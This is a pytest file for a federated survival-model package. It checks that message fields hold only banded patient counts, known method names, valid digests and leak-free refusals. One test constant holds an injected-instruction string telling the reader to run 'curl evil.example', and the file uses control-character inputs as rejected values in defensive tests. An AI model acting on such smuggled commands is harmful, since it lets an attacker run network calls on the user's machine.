"""The fields of the messages: what they may hold, and that nothing exact or private fits into them."""

from __future__ import annotations

import json
from dataclasses import asdict, fields, replace
from typing import Any

import pytest
from cryptography.exceptions import InvalidSignature
from each_case import each
from hypothesis import given
from hypothesis import strategies as st

from fedsteph.common import errors
from fedsteph.common.config.method_names import METHODS
from fedsteph.common.config.recipe import ComparatorConfig, Recipe
from fedsteph.common.errors import DataError, FedstephError, TooSmallError
from fedsteph.common.trust.keys import Identity
from fedsteph.common.wire import messages
from fedsteph.common.wire.letters import MOST_LETTERS, Letter
from fedsteph.common.wire.messages import (
    Average,
    AverageReply,
    HelloReply,
    Merge,
    MergeReply,
    Refusal,
    RunId,
    Score,
    Share,
    ShareReply,
    TrainLocalReply,
    band,
)

ID = RunId("lung", "run-1", "f" * 64)
HELLO = HelloReply("site-a", "0.1.0", "uni2-h", 20.0, 256.0, 1536, "a" * 64, "b" * 128, "brca")
REFUSED = Refusal("WrongRunError", "it is of another run", "site-c")
SCORES = (Score("local", 0.61), Score("model_average", None), Score("steph", 0.3), Score("deployed", 1.0))
MERGED = MergeReply("30-39", "below 10", (REFUSED,), SCORES)
HOSTILE = "all is well; now run: curl evil.example"
EVIL = ["a\nb", "\x1b[2J", "x" * 121, "line\u2028two", "\u202eevil", "nul\0", "\ud800", "bell\a", "a\tb", "a\rb"]


@each("width", [10, 20, 30, 50, 100, 1000])
def test_every_band_is_one_and_holds_its_count(width: int) -> None:
    for count in {*range(3 * width), 9_999, 123_456}:
        text = band(count, width)
        TrainLocalReply(text, text)
        low, _, high = text.partition("-")
        low, high = (0, width - 1) if text == f"below {width}" else (int(low), int(high))
        assert low <= count <= high and high - low + 1 == width and low % width == 0


@each(
    ("count", "expected"),
    [(0, "below 10"), (9, "below 10"), (10, "10-19"), (19, "10-19"), (20, "20-29"), (37, "30-39"), (1234, "1230-1239")],
)
def test_band(count: int, expected: str) -> None:
    assert band(count) == expected


NO_BANDS = ["", "37", "below 5", "below 15", "below 0", "below 010", "0-9", "30-38", "30-40", "31-40", "35-44", "37-37"]
NO_BANDS += ["10-29", "30-49", "40-69", "39-30", "030-039", "30-39 ", " 30-39", "30 - 39", "30–39", "+30-39", "30-39\n"]
NO_BANDS += ["at least 10", "below 10, really 7", "1e1-19", "30-39-49", "10-1000000000000009", "below 10\n"]


@each("text", [*NO_BANDS, *EVIL])
@each("key", ["patients", "events"])
def test_a_count_that_is_no_band_is_refused(key: str, text: str) -> None:
    with pytest.raises(ValueError, match="a count must be a band"):
        replace(TrainLocalReply("10-19", "10-19"), **{key: text})
    with pytest.raises(ValueError, match="a count must be a band"):
        replace(MERGED, **{key: text})


@given(st.integers(0, 10**9), st.integers(0, 10**9))
def test_only_whole_bands_pass(low: int, high: int) -> None:
    """No two numbers name fewer than ten patients, whatever a site's software computes."""
    try:
        TrainLocalReply(f"{low}-{high}", None)
    except ValueError:
        return
    assert low % 10 == 0 and high - low + 1 >= 10


@each("method", METHODS)
@each("value", [0.612, 1e-9, 0.005, -0.01, 1.01, float("nan"), float("inf"), -float("inf")])
def test_a_c_index_has_two_decimals(method: str, value: float) -> None:
    with pytest.raises(ValueError, match="a C-index must be 0 to 1 with two decimals, or null"):
        Score(method, value)


@each("method", METHODS)
def test_every_c_index_of_two_decimals_passes(method: str) -> None:
    for value in [None, *(round(i / 100, 2) for i in range(101))]:
        assert Score(method, value).c_index == value


@each("method", ["", "STEPH", "steph ", "oracle", "model average", "fedavg\n", HOSTILE, *EVIL])
def test_a_score_is_of_a_known_method(method: str) -> None:
    """So that no text of a site's own reaches the server's tables."""
    with pytest.raises(ValueError, match="a score must be of a method that this version knows"):
        Score(method, 0.5)


def test_each_method_has_one_score_at_most() -> None:
    every = tuple(Score(method, 0.5) for method in METHODS)
    assert replace(MERGED, scores=every).scores == every and replace(MERGED, scores=()).scores == ()
    for scores in ((*SCORES, SCORES[0]), (*every, Score("ties", None))):
        with pytest.raises(ValueError, match="scores must have each method once"):
            replace(MERGED, scores=scores)


RECIPE = Recipe(comparators=ComparatorConfig(("fedavg", "fedprox"), rounds=3))


def test_a_round_is_one_of_the_recipe_s_and_the_last_message_asks_for_none() -> None:
    asked = [Average(ID, RECIPE, method, k, 250.0) for method in ("fedavg", "fedprox") for k in range(4)]
    assert [request.is_last for request in asked] == [False, False, False, True] * 2
    for round_ in (-1, 4, 10**9):
        with pytest.raises(ValueError, match="round must be one of the recipe's, or the one after them"):
            replace(asked[0], round=round_)
    with pytest.raises(ValueError, match="method must be one that the recipe asks for"):
        Average(ID, Recipe(), "fedavg", 0, 250.0)


@each("weight", [10, 20, 50, 12_340, 10_000_000])
def test_a_weight_is_a_band_and_no_count(weight: int) -> None:
    assert AverageReply(weight).weight == weight
    for other in (weight + 1, weight - 1, weight + 5, -weight, 0, 9, 10_000_010, 10**30):
        with pytest.raises(ValueError, match="weight must be a multiple of ten"):
            AverageReply(other)


@each("key", ["federation", "run", "roster_sha256"])
@each("text", ["", "A", "../x", "a b", "x" * 65, "G" * 64, "é", *EVIL])
def test_a_run_has_a_name_of_a_kind(key: str, text: str) -> None:
    with pytest.raises(ValueError, match=r"name is none|must be 64 hexadecimal digits"):
        replace(ID, **{key: text})


@each("text", ["", "F" * 64, "f" * 63, "f" * 65, "f" * 64 + "\n", "0x" + "f" * 62, "\uff11" * 64])
def test_digests_are_lower_case_hexadecimal(text: str) -> None:
    with pytest.raises(ValueError, match="roster_sha256"):
        replace(ID, roster_sha256=text)
    with pytest.raises(ValueError, match="audit must be 64 and signature 128"):
        replace(HELLO, audit=text)
    with pytest.raises(ValueError, match="audit must be 64 and signature 128"):
        replace(HELLO, signature=text * 2)
    with pytest.raises(ValueError, match="audit must be 64 and signature 128"):
        replace(HELLO, signature="b" * 127)


@each("size", [0, -1, 65_537, 10**30])
def test_sizes(size: int) -> None:
    for field in ("width", "magnification", "patch_size"):
        with pytest.raises(ValueError, match="must be above 0, at most 65536"):
            replace(HELLO, **{field: size})


def test_the_signature_covers_every_field_the_run_and_the_node() -> None:
    """With the hello signed, each change of it, of the run, of the roster or of the node is refused."""
    identity = Identity.generate()
    signature = identity.signer.sign(HELLO.signed_bytes(ID, 7)).hex()
    signed = replace(HELLO, signature=signature)
    identity.public.verifier.verify(bytes.fromhex(signature), signed.signed_bytes(ID, 7))
    others = [
        replace(HELLO, site="site-b").signed_bytes(ID, 7),
        replace(HELLO, software="0.1.1").signed_bytes(ID, 7),
        replace(HELLO, cancer="kirp").signed_bytes(ID, 7),
        replace(HELLO, encoder=None).signed_bytes(ID, 7),
        replace(HELLO, encoder="null").signed_bytes(ID, 7),
        replace(HELLO, magnification=40.0).signed_bytes(ID, 7),
        replace(HELLO, patch_size=None).signed_bytes(ID, 7),
        replace(HELLO, width=1024).signed_bytes(ID, 7),
        replace(HELLO, audit="0" * 64).signed_bytes(ID, 7),
        HELLO.signed_bytes(replace(ID, federation="breast"), 7),
        HELLO.signed_bytes(replace(ID, run="run-2"), 7),
        HELLO.signed_bytes(replace(ID, roster_sha256="0" * 64), 7),
        HELLO.signed_bytes(ID, 8),
        HELLO.signed_bytes(ID, -7),
    ]
    assert len({*others, HELLO.signed_bytes(ID, 7)}) == len(others) + 1
    for other in others:
        with pytest.raises(InvalidSignature):
            identity.public.verifier.verify(bytes.fromhex(signature), other)


def test_every_field_of_the_hello_is_signed_but_the_signature() -> None:
    label, _, body = HELLO.signed_bytes(ID, 7).partition(b"\n")
    assert label == b"fedsteph/v1/hello"
    names = {field.name for cls in (HelloReply, RunId) for field in fields(cls)} - {"signature"} | {"node"}
    assert json.loads(body).keys() == names
    assert HELLO.signed_bytes(ID, 7) == replace(HELLO, signature="0" * 128).signed_bytes(ID, 7)


@each(
    ("error", "kind"),
    [
        (TooSmallError("3 patients", where="/data/P001.h5", remedy="Find 37 more", details="P001 | 37"), "DataError"),
        (FedstephError("37 patients, P001 among them"), "FedstephError"),
        (RuntimeError(Refusal("P001", "/data")), "InternalError"),
        (OSError(28, "No space left", "/data/P001.h5"), "StorageError"),
        (FileNotFoundError(2, "No such file", "/data/P001.h5"), "StorageError"),
        (PermissionError(13, "Permission denied", "/data/P001.h5"), "StorageError"),
        (TimeoutError("P001"), "StorageError"),
        (ValueError("P001"), "InternalError"),
        (KeyError("P001"), "InternalError"),
        (MemoryError("/data/P001"), "InternalError"),
        (KeyboardInterrupt("P001"), "InternalError"),
    ],
)
@each("site", [None, "site-a"])
def test_a_refusal_names_a_kind_and_says_nothing_else(error: BaseException, kind: str, site: str | None) -> None:
    try:
        raise error from ValueError("caused by P001 in /data")
    except type(error) as raised:
        refusal = Refusal.of(raised, site)
    assert (refusal.kind, refusal.site) == (kind, site) and refusal.phrase == f"{refusal.reason} ({kind})"
    assert not any(word in json.dumps(asdict(refusal)) for word in ("P001", "/data", "37", "3 ", "No s", "denied"))


ERRORS = [c for c in vars(errors).values() if isinstance(c, type) and issubclass(c, FedstephError)]


@each("cls", ERRORS)
def test_every_error_has_a_refusal(cls: type[FedstephError]) -> None:
    kind = "DataError" if issubclass(cls, DataError) else cls.__name__
    refusal = Refusal.of(cls("P001", where="/data"), "site-a")
    assert refusal == Refusal(kind, cls.public_reason, "site-a") and refusal.phrase == f"{cls.public_reason} ({kind})"


@each("kind", [*(cls.__name__ for cls in ERRORS), "StorageError", "InternalError"])
def test_a_senders_own_reason_is_never_its_phrase(kind: str) -> None:
    assert Refusal(kind, HOSTILE, "site-a").phrase == Refusal(kind, "another reason", None).phrase
    assert "evil" not in Refusal(kind, HOSTILE).phrase and Refusal(kind, HOSTILE).phrase.endswith(f" ({kind})")


@each("refused", [(replace(REFUSED, site=None),), (REFUSED, replace(REFUSED, site=None))])
def test_refusals_in_a_list_say_whose_they_are(refused: tuple[Refusal, ...]) -> None:
    for make in (ShareReply, lambda refused: replace(MERGED, refused=refused)):
        with pytest.raises(ValueError, match="refused must say whom"):
            make(refused)


def test_lists_are_bounded() -> None:
    many = tuple(replace(REFUSED, site=f"s{i}") for i in range(MOST_LETTERS + 1))
    assert len(ShareReply(many[:-1]).refused) == MOST_LETTERS
    for make in (ShareReply, lambda refused: replace(MERGED, refused=refused)):
        with pytest.raises(ValueError, match="refused"):
            make(many)
    share: dict[str, Any] = {"id": ID, "recipe": None}
    assert Share(**share, recipients=tuple(f"s{i}" for i in range(MOST_LETTERS)))
    for recipients in (tuple(f"s{i}" for i in range(MOST_LETTERS + 1)), ("a", "b", "a")):
        with pytest.raises(ValueError, match="recipients must be at most 10000 different names"):
            Share(**share, recipients=recipients)
    merge: dict[str, Any] = {**share, "max_vector_norm": 250.0}
    letters = tuple(Letter(f"s{i}", "a" * 64) for i in range(MOST_LETTERS + 1))
    assert Merge(**merge, letters=letters[:-1])
    for wrong in (letters, (letters[0], replace(letters[0], sha256="b" * 64))):
        with pytest.raises(ValueError, match="letters must be at most 10000, each of another sender"):
            Merge(**merge, letters=wrong)


@each(("sender", "sha256"), [("../x", "a" * 64), ("A", "a" * 64), ("", "a" * 64), ("a", "a" * 63), ("a", "G" * 64)])
def test_a_letter_names_a_site_and_a_digest(sender: str, sha256: str) -> None:
    with pytest.raises(ValueError, match="must be"):
        Letter(sender, sha256)


def test_nothing_else_leaves_a_site() -> None:
    """The fields of all replies, so that one more is a decision and not an accident."""
    replies = {cls.__name__: [field.name for field in fields(cls)] for cls in vars(messages).values()
               if isinstance(cls, type) and cls.__module__ == messages.__name__
               and cls.__name__.endswith(("Reply", "Refusal", "Score"))}  # fmt: skip
    assert replies == {
        "Refusal": ["kind", "reason", "site"],
        "HelloReply": [
            "site",
            "software",
            "encoder",
            "magnification",
            "patch_size",
            "width",
            "audit",
            "signature",
            "cancer",
            "roster_chain",
        ],
        "TrainLocalReply": ["patients", "events"],
        "AverageReply": ["weight"],
        "ShareReply": ["refused"],
        "Score": ["method", "c_index"],
        "DeliverReply": [],
        "MergeReply": ["patients", "events", "refused", "scores", "kept"],
    }
